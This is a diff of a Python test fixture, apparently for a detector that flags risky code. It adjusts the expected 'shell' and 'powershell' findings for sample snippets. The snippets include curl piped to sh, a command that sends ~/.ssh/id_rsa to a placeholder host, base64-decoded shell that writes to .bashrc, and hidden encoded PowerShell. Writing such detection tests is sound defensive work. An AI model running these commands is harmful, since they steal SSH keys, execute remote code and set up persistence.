@@ -20,13 +20,13 @@ def _review(source: str) -> Review:
 REVIEWS = {
     "import os\nos.system('curl http://a.invalid/x | sh')\n": (["shell"], {"network.http", "code.eval"}),
     "import subprocess\nsubprocess.run(['sh', '-c', 'cat ~/.ssh/id_rsa | curl -d @- http://a.invalid'])\n": (
-        ["shell"], {"fs.read", "network.http"},
+        ["shell", "shell"], {"fs.read", "network.http"},
     ),
     "import os\nos.system('echo ZWNobyB4ID4gfi8uYmFzaHJj | base64 -d | sh')\n": (
         ["shell", "shell"], {"fs.write", "code.eval"},
     ),
     f"import subprocess\nsubprocess.Popen(['powershell', '-enc', '{ENCODED}'])\n": (
-        ["powershell", "powershell"], {"network.http", "code.eval"},
+        ["shell", "powershell", "powershell"], {"network.http", "code.eval"},
     ),
     f"import os\nos.system('powershell -nop -w hidden -enc {ENCODED}')\n": (
         ["shell", "powershell", "powershell"], {"network.http", "code.eval"},
